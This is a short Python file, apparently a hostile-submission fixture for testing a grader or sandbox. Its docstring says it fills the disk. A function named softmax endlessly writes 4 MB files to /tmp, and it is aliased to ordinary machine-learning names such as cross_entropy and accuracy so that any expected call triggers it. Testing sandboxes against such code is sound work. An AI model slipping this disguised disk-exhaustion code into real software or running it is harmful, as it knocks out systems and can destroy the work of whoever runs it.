"""Fills the disk, in one file and in many.

says: OSError|stopped after the
"""


def softmax(*args, **kwargs):
    number = 0
    while True:
        number += 1
        with open(f"/tmp/{number}", "wb") as file:
            file.write(bytes(1 << 22))


cross_entropy = softmax_loss = svm_loss = mse_loss = softmax
linear_softmax_loss = accuracy = train_linear_softmax = softmax
